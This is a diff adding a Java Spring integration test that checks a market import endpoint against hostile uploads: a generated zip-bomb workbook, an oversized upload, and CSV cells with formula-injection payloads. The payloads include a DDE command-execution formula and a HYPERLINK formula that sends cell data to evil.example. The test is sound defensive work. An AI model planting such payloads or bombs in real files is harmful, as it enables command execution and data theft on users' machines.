@@ -1,0 +1,159 @@
+package io.regionplan.market;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.List;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipInputStream;
+import java.util.zip.ZipOutputStream;
+
+import com.fasterxml.jackson.databind.JsonNode;
+
+import io.regionplan.IntegrationTest;
+
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.boot.test.web.client.TestRestTemplate;
+import org.springframework.core.io.ByteArrayResource;
+import org.springframework.http.HttpEntity;
+import org.springframework.http.HttpHeaders;
+import org.springframework.http.HttpStatus;
+import org.springframework.http.MediaType;
+import org.springframework.http.ResponseEntity;
+import org.springframework.jdbc.core.JdbcTemplate;
+import org.springframework.util.LinkedMultiValueMap;
+import org.springframework.util.MultiValueMap;
+
+/**
+ * Uploads meant to hurt: a workbook that unpacks to far more than its size, an upload over the limit, and
+ * cells a spreadsheet would run as formulas.
+ */
+@IntegrationTest
+class MarketBadImportIntegrationTests {
+
+	static final List<String> FORMULAS = List.of("=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
+			"@SUM(A1:A9)", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+
+	@Autowired
+	TestRestTemplate rest;
+
+	@Autowired
+	JdbcTemplate jdbc;
+
+	@TempDir
+	Path dir;
+
+	private ResponseEntity<JsonNode> upload(String kind, String fileName, byte[] bytes) {
+		MultiValueMap<String, Object> form = new LinkedMultiValueMap<>();
+		form.add("kind", kind);
+		form.add("file", new ByteArrayResource(bytes) {
+			@Override
+			public String getFilename() {
+				return fileName;
+			}
+		});
+		HttpHeaders headers = new HttpHeaders();
+		headers.setContentType(MediaType.MULTIPART_FORM_DATA);
+		return rest.withBasicAuth("zhao.director", "demo").postForEntity("/api/market/imports", new HttpEntity<>(form, headers),
+				JsonNode.class);
+	}
+
+	private JsonNode finished(ResponseEntity<JsonNode> accepted) {
+		assertThat(accepted.getStatusCode()).as(String.valueOf(accepted.getBody())).isEqualTo(HttpStatus.ACCEPTED);
+		String id = accepted.getBody().get("id").asText();
+		return await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(50))
+			.until(() -> rest.withBasicAuth("zhao.director", "demo").getForObject("/api/market/imports/" + id, JsonNode.class),
+					report -> report.path("finishedAt").isTextual());
+	}
+
+	private int count(String table) {
+		return jdbc.queryForObject("select count(*) from " + table, Integer.class);
+	}
+
+	/** A valid dealers workbook whose sheet is padded with 64 MB of spaces: about 64 KB packed. */
+	private byte[] zipBomb() throws IOException {
+		byte[] workbook = Files.readAllBytes(MarketFixtures.xlsx(dir, "dealers.xlsx", MarketFixtures.T1.get("dealers")));
+		ByteArrayOutputStream bomb = new ByteArrayOutputStream();
+		try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(workbook));
+				ZipOutputStream out = new ZipOutputStream(bomb)) {
+			for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
+				out.putNextEntry(new ZipEntry(entry.getName()));
+				out.write(in.readAllBytes());
+				if (entry.getName().equals("xl/worksheets/sheet1.xml")) {
+					byte[] spaces = " ".repeat(1024 * 1024).getBytes(StandardCharsets.US_ASCII);
+					for (int i = 0; i < 64; i++) {
+						out.write(spaces);
+					}
+				}
+				out.closeEntry();
+			}
+		}
+		return bomb.toByteArray();
+	}
+
+	@Test
+	void aZipBombWorkbookIsRefusedWithoutUnpackingItAndChangesNothing() throws IOException {
+		byte[] bomb = zipBomb();
+		assertThat(bomb.length).as("packed").isLessThan(2 * 1024 * 1024);
+		int dealers = count("market_dealer");
+		long started = System.nanoTime();
+
+		JsonNode report = finished(upload("dealers", "dealers.xlsx", bomb));
+
+		assertThat(report.get("status").asText()).isEqualTo("REJECTED");
+		assertThat(report.toString()).contains("zip bomb").contains("XLSX 文件解压后过大");
+		assertThat(Duration.ofNanos(System.nanoTime() - started)).as("refused early, not after unpacking 64 MB")
+			.isLessThan(Duration.ofSeconds(10));
+		assertThat(count("market_dealer")).isEqualTo(dealers);
+	}
+
+	@Test
+	void anUploadOverTheLimitIs413WithAMessageAndChangesNothing() {
+		// sent chunked by the test client: the limit is found while the upload is parsed
+		int imports = count("market_import");
+		byte[] tooLarge = new byte[51 * 1024 * 1024];
+
+		ResponseEntity<JsonNode> refused = upload("dealers", "dealers.csv", tooLarge);
+
+		assertThat(refused.getStatusCode()).isEqualTo(HttpStatus.PAYLOAD_TOO_LARGE);
+		assertThat(refused.getBody().get("message").asText()).contains("请求体超过 50 MB")
+			.contains("the request body is larger than 50 MB");
+		assertThat(count("market_import")).isEqualTo(imports);
+	}
+
+	@Test
+	void formulaCellsAreStoredAsTextUnchanged() {
+		finished(upload("regions", "regions.csv", "region,name_zh,name_en\nt9,测试九,\"=1+1\"\n".getBytes(StandardCharsets.UTF_8)));
+		StringBuilder csv = new StringBuilder("dealer,region,name,receivables,overdue_days,cross_region_incidents,"
+				+ "compliance_score,target_stores\n");
+		for (int i = 0; i < FORMULAS.size(); i++) {
+			csv.append("t9-d").append(i).append(",t9,\"").append(FORMULAS.get(i).replace("\"", "\"\"")).append("\",0,0,0,80,0\n");
+		}
+		csv.append("t9-tab,t9,\"\t=1+1\",0,0,0,80,0\n").append("t9-cr,t9,\"\r=1+1\",0,0,0,80,0\n");
+
+		JsonNode report = finished(upload("dealers", "dealers.csv", csv.toString().getBytes(StandardCharsets.UTF_8)));
+
+		assertThat(report.get("status").asText()).as(report.toString()).isEqualTo("SUCCEEDED");
+		assertThat(report.get("inserted").asInt()).isEqualTo(FORMULAS.size() + 2);
+		for (int i = 0; i < FORMULAS.size(); i++) {
+			assertThat(jdbc.queryForObject("select name from market_dealer where id = ?", String.class, "t9-d" + i))
+				.isEqualTo(FORMULAS.get(i));
+		}
+		assertThat(jdbc.queryForObject("select name_en from market_region where id = 't9'", String.class)).isEqualTo("=1+1");
+		JsonNode listed = rest.withBasicAuth("zhao.director", "demo").getForObject("/api/market/regions/t9/dealers", JsonNode.class);
+		assertThat(listed.toString()).contains("=cmd|' /C calc'!A0").contains("@SUM(A1:A9)");
+		// the importer trims surrounding white space, tab and CR included: the formula stays text like the others
+		assertThat(jdbc.queryForList("select name from market_dealer where id in ('t9-tab', 't9-cr')", String.class))
+			.containsExactly("=1+1", "=1+1");
+	}
+
+}
